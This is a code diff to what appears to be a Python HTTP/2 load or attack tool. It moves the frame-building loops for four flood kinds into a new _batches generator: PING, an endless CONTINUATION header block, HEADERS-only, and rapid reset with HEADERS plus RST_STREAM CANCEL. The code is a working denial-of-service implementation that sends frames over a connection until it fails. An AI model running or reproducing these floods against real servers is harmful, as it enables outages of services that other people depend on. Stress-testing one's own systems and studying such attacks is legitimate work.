@@ -96,13 +96,36 @@ def unread_calls(endpoint: str, path: str, request, calls: int) -> socket.socket
 FLOODS = ("headers", "reset", "ping", "continuation")
 
 
+def _batches(endpoint: str, path: str, kind: str) -> Iterator[tuple[bytes, int]]:
+    """What a flood of `kind` sends on one connection: (bytes, how many calls or frames
+    they hold), endlessly (headers-only and reset: until the stream ids run out)."""
+    headers = _headers(endpoint, path)
+    if kind == "ping":
+        frames = b"".join(_frame(6, 0, 0, n.to_bytes(8, "big")) for n in range(500))
+        while True:
+            yield frames, 500
+    if kind == "continuation":  # a header block that never ends
+        yield _frame(1, 0, 1, headers), 0
+        frames = _frame(9, 0, 1, _literal(b"x-padding", b"a" * 16_000)) * 100
+        while True:
+            yield frames, 100
+    cancel, stream = (8).to_bytes(4, "big"), 1  # CANCEL
+    while stream < 2**31 - 1000:
+        frames = []
+        for _ in range(500):
+            frames.append(_frame(1, 0x4, stream, headers))
+            if kind == "reset":
+                frames.append(_frame(3, 0, stream, cancel))
+            stream += 2
+        yield b"".join(frames), 500
+
+
 def _flood(
     conn: socket.socket, endpoint: str, path: str, kind: str, sent: Callable[[int], None]
 ) -> None:
     """Flood one connection as fast as it goes, until it fails, calling sent(n) after
     every n calls (or frames) sent."""
     conn.settimeout(None)  # a server slow to read slows the flood; it does not end it
-    headers, cancel = _headers(endpoint, path), (8).to_bytes(4, "big")  # CANCEL
 
     def drain() -> None:
         with contextlib.suppress(OSError):
@@ -111,27 +134,9 @@ def _flood(
 
     threading.Thread(target=drain, daemon=True).start()
     with contextlib.suppress(OSError):
-        if kind == "ping":
-            frames = b"".join(_frame(6, 0, 0, n.to_bytes(8, "big")) for n in range(500))
-            while True:
-                conn.sendall(frames)
-                sent(500)
-        if kind == "continuation":  # a header block that never ends
-            conn.sendall(_frame(1, 0, 1, headers))
-            frames = _frame(9, 0, 1, _literal(b"x-padding", b"a" * 16_000)) * 100
-            while True:
-                conn.sendall(frames)
-                sent(100)
-        stream = 1
-        while stream < 2**31 - 1000:
-            frames = []
-            for _ in range(500):
-                frames.append(_frame(1, 0x4, stream, headers))
-                if kind == "reset":
-                    frames.append(_frame(3, 0, stream, cancel))
-                stream += 2
-            conn.sendall(b"".join(frames))
-            sent(500)
+        for data, count in _batches(endpoint, path, kind):
+            conn.sendall(data)
+            sent(count)
 
 
 def _flood_process(endpoint: str, path: str, kind: str, connections: int) -> None:
